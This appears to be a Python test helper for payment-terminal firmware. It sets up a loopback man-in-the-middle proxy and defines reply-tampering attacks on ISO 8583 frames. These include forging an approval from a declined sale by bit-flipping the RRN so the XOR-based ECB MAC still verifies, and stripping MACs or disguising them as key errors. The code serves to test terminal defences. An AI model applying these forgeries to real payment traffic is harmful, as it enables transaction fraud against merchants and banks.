"""A man in the middle between the handset and the acquirer: a TCP proxy
on loopback that passes requests on and may rewrite the replies, hold a
request back and answer it itself, or send everything to a host of its
own. The attacks of issue 13 are functions over one reply frame; the tests
point a handset's host_port at the proxy.

    with Mitm(host.port, tamper=forge_approval) as mitm:
        handset = make_handset(host_port=mitm.port)
"""

import socket
import struct
import threading

from firmware import iso8583


class Mitm:
    """`upstream_port`: where requests go (the real host, or a fake one).
    `tamper(reply_frame) -> reply_frame`: applied to every reply (the
    2-byte length included); None passes them unchanged. `tampered` counts
    the replies the tamper function changed. `hold(request_frame) ->
    reply_frame or None`: a frame it returns goes back to the handset as
    the answer and the request never reaches the host; `held` counts them."""

    def __init__(self, upstream_port, tamper=None, hold=None):
        self.upstream_port = upstream_port
        self.tamper = tamper
        self.tampered = 0
        self.hold = hold
        self.held = 0
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        self._closed = False
        self._thread = threading.Thread(target=self._accept, name="mitm", daemon=True)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *exc):
        self._closed = True
        self._listener.close()
        self._thread.join(5)
        return False

    def _accept(self):
        while not self._closed:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._relay, args=(client,), daemon=True).start()

    def _relay(self, client):
        try:
            upstream = socket.create_connection(("127.0.0.1", self.upstream_port), timeout=10)
        except OSError:
            client.close()
            return
        try:
            client.settimeout(10)
            while True:
                request = read_frame(client)
                if request is None:
                    return
                answer = self.hold(request) if self.hold is not None else None
                if answer is not None:
                    self.held += 1
                    client.sendall(answer)
                    continue
                upstream.sendall(request)
                reply = read_frame(upstream)
                if reply is None:
                    return
                if self.tamper is not None:
                    changed = self.tamper(reply)
                    if changed != reply:
                        self.tampered += 1
                    reply = changed
                client.sendall(reply)
        except OSError:
            return
        finally:
            client.close()
            upstream.close()


def read_frame(sock):
    """One length-prefixed frame (prefix included), or None at the end."""
    head = _read_exactly(sock, 2)
    if head is None:
        return None
    body = _read_exactly(sock, struct.unpack(">H", head)[0])
    return None if body is None else head + body


def _read_exactly(sock, n):
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            return None
        data += chunk
    return data


def decode(frame):
    tpdu, header, body = iso8583.unframe(frame[2:])
    mti, fields = iso8583.unpack(body)
    return tpdu, header, mti, fields


def encode(tpdu, header, mti, fields):
    return iso8583.frame(iso8583.pack(mti, fields), tpdu, header)


def xor_fold(data):
    """What the UnionPay ECB MAC depends on: the XOR of the zero-padded
    8-byte blocks."""
    folded = bytearray(8)
    for i, b in enumerate(data):
        folded[i % 8] ^= b
    return bytes(folded)


def forge_approval(frame):
    """A sale declined for funds (0210, F39 51) turned into an approval
    (00), with the same bits flipped in the RRN (F37) at the same offsets
    modulo 8, so the XOR of the blocks, and with it the ECB MAC, stays as
    the host made it. The RRN bytes are chosen so that it stays digits
    where it can. Any other frame passes unchanged."""
    tpdu, header, mti, fields = decode(frame)
    if mti != "0210" or fields.get(39) != "51" or 37 not in fields:
        return frame
    before = iso8583.mac_data(mti, fields)
    forged = dict(fields)
    forged[39] = "00"
    difference = bytes(a ^ b for a, b in zip(xor_fold(before), xor_fold(iso8583.mac_data(mti, forged))))
    start = iso8583.mac_data(mti, forged).index(fields[37].encode())
    rrn = bytearray(fields[37].encode())
    for residue in range(8):
        if not difference[residue]:
            continue
        candidates = [i for i in range(12) if (start + i) % 8 == residue]
        digit_ok = [i for i in candidates if chr(rrn[i] ^ difference[residue]).isdigit()]
        index = (digit_ok or candidates)[0]
        rrn[index] ^= difference[residue]
    forged[37] = rrn.decode()
    assert xor_fold(iso8583.mac_data(mti, forged)) == xor_fold(before)
    return encode(tpdu, header, mti, forged)


def strip_mac(frame):
    """Every financial reply without its MAC (F64)."""
    tpdu, header, mti, fields = decode(frame)
    if mti not in ("0210", "0230") or 64 not in fields:
        return frame
    del fields[64]
    return encode(tpdu, header, mti, fields)


def strip_mac_as_key_error(frame):
    """An approval with its MAC removed and F39 turned into A0 (the host
    has no key for us), the one answer a terminal accepts unsigned: the
    host has booked the sale, the terminal must not believe it declined."""
    tpdu, header, mti, fields = decode(frame)
    if mti != "0210" or 64 not in fields:
        return frame
    del fields[64]
    fields[39] = "A0"
    return encode(tpdu, header, mti, fields)
